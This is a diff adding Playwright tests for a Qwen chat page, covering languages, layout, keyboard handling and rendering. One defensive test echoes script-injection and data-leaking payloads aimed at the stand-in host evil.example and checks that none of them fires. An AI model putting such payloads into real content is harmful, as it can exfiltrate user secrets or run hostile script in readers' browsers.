@@ -1,0 +1,137 @@
+"""The page itself: languages, widths, keyboard, and what a reply may not do."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+import pytest
+from chat_page import ChatPage
+from playwright.sync_api import expect
+from recorder import Recorder
+
+HAN = "[一-鿿]"
+
+
+def test_chinese_reader_finds_no_english(open_page: Callable[..., ChatPage], endpoint: Recorder) -> None:
+    chat = open_page(locale="zh-CN")
+    expect(chat.box).to_have_attribute("placeholder", "有什么想问千问的？")
+    expect(chat.page.locator("#chat .placeholder h2")).to_have_text("通用助手")
+    labels = chat.page.locator("#settings").locator("[data-testid=block-info], .info-text, button#reset").all_inner_texts()
+    assert [text for text in labels if text and not any("一" <= letter <= "鿿" for letter in text)] == []
+    chat.ask("[[fault:401]] 你好")
+    expect(chat.card).to_contain_text("密钥无效")
+    assert chat.card.get_by_role("link").get_attribute("href") == "https://help.aliyun.com/zh/model-studio/error-code"
+
+
+def test_language_of_the_api_is_the_callers(open_page: Callable[..., ChatPage]) -> None:
+    expect(open_page(locale="zh-TW").box).to_have_attribute("placeholder", "有什么想问千问的？")
+    expect(open_page(locale="de-DE").box).to_have_attribute("placeholder", "Ask Qwen anything")
+
+
+def test_on_a_phone_the_settings_start_closed_and_nothing_overflows(open_page: Callable[..., ChatPage]) -> None:
+    chat = open_page(width=390, height=844)
+    chat.page.wait_for_timeout(600)
+    assert "open" not in (chat.page.locator("#settings").get_attribute("class") or "").split()
+    box = chat.box.bounding_box()
+    assert box and box["x"] >= 0 and box["x"] + box["width"] <= 390
+    chat.good_turn("Compare three sorting algorithms in a table")
+    assert chat.evaluate("document.documentElement.scrollWidth") <= 390
+    expect(chat.box).to_be_in_viewport()
+    chat.page.get_by_label("Toggle Sidebar").click()
+    expect(chat.page.locator("#model")).to_be_in_viewport()
+
+
+def test_on_a_desktop_the_settings_are_open_beside_the_chat(chat: ChatPage) -> None:
+    expect(chat.page.locator("#model")).to_be_in_viewport()
+    settings, message = chat.page.locator("#settings").bounding_box(), chat.page.locator("#message").bounding_box()
+    assert settings and message and settings["x"] + settings["width"] <= message["x"]
+
+
+def test_long_conversation_scrolls_while_the_box_stays(chat: ChatPage) -> None:
+    for _ in range(3):
+        chat.good_turn("Show what you can format")
+    expect(chat.box).to_be_in_viewport()
+    assert chat.evaluate("document.documentElement.scrollHeight") <= 800
+
+
+def test_focus_and_placeholder_survive_a_turn_and_a_draft_is_kept(chat: ChatPage) -> None:
+    chat.send("[[fault:slow seconds=0.03]] hello")
+    expect(chat.bots.last).not_to_be_empty(timeout=10_000)
+    chat.box.press_sequentially("a draft")
+    chat.settled()
+    expect(chat.box).to_have_value("a draft")
+    expect(chat.box).to_be_focused()
+    chat.box.fill("")
+    expect(chat.box).to_have_attribute("placeholder", "Ask Qwen anything")
+
+
+def test_shift_enter_breaks_the_line_and_enter_sends(chat: ChatPage, endpoint: Recorder) -> None:
+    chat.box.press_sequentially("one")
+    chat.box.press("Shift+Enter")
+    chat.box.press_sequentially("two")
+    expect(chat.box).to_have_value("one\ntwo")
+    chat.box.press("Enter")
+    chat.settled()
+    assert endpoint.calls[0].messages[-1]["content"] == "one\ntwo"
+
+
+@pytest.mark.parametrize("event", ["isComposing: true", "keyCode: 229"], ids=["chromium", "safari"])
+def test_enter_of_an_input_method_does_not_send(chat: ChatPage, endpoint: Recorder, event: str) -> None:
+    chat.box.fill("nihao")
+    chat.box.evaluate(
+        f"""(box) => {{
+            for (const type of ["keydown", "keypress", "keyup"])
+                box.dispatchEvent(new KeyboardEvent(type, {{key: "Enter", bubbles: true, cancelable: true, {event}}}));
+        }}"""
+    )
+    chat.page.wait_for_timeout(500)
+    expect(chat.box).to_have_value("nihao")
+    assert endpoint.calls == []
+
+
+@pytest.mark.parametrize("nothing", ["", "   ", "\u200b\ufeff"], ids=["empty", "spaces", "zero-width"])
+def test_nothing_typed_sends_nothing(chat: ChatPage, endpoint: Recorder, nothing: str) -> None:
+    chat.box.fill(nothing)
+    chat.box.press("Enter")
+    chat.page.wait_for_timeout(400)
+    expect(chat.users).to_have_count(0)
+    assert endpoint.calls == []
+    chat.good_turn()
+
+
+def test_mathematics_code_tables_and_diagrams_are_drawn(chat: ChatPage) -> None:
+    chat.good_turn(
+        "[[echo]] $a^2$ and \\(b^2\\)\n\n$$c^2$$\n\n\\[d^2\\]\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
+        "```python\nprint(1)\n```\n\n```mermaid\ngraph LR\n  A --> B\n```\n"
+    )
+    answer = chat.bots.last
+    expect(answer.locator(".katex")).to_have_count(4)
+    expect(answer.locator("table td")).to_have_text(["1", "2"])
+    expect(answer.locator("pre code.language-python")).to_have_count(1)
+    expect(answer.locator("svg[id^=mermaid]")).to_be_visible(timeout=10_000)
+
+
+def test_reply_fetches_nothing_runs_nothing_and_posts_nothing(chat: ChatPage) -> None:
+    chat.page.route("https://evil.example/**", lambda route: route.abort())
+    answered: list[str] = []
+    chat.page.on("requestfinished", lambda request: answered.append(request.url))
+    chat.ask(
+        "[[echo]] ![x](https://evil.example/a.png?q=secret) <img src='https://evil.example/b.png' "
+        "onerror='window.pwned=1'> <script>window.pwned=1</script> <iframe src='https://evil.example/c'></iframe> "
+        "<form action='https://evil.example/d'><button>login</button></form> "
+        "<div style='background:url(https://evil.example/e)'>x</div> [link](javascript:window.pwned=1)"
+    )
+    forms = chat.bots.last.locator("form button")
+    if forms.count():
+        forms.first.evaluate("(button) => button.click()")
+    chat.page.wait_for_timeout(500)
+    assert chat.evaluate("window.pwned") is None
+    assert [url for url in answered if "evil" in url] == []
+    assert "evil" not in chat.page.url
+    chat.good_turn()
+
+
+def test_json_is_disabled_with_the_reason_for_a_model_without_it(open_page: Callable[..., ChatPage]) -> None:
+    chat = open_page()
+    chat.page.locator("#model input[value=max]").check()
+    expect(chat.page.locator("#json_mode input")).to_be_enabled()
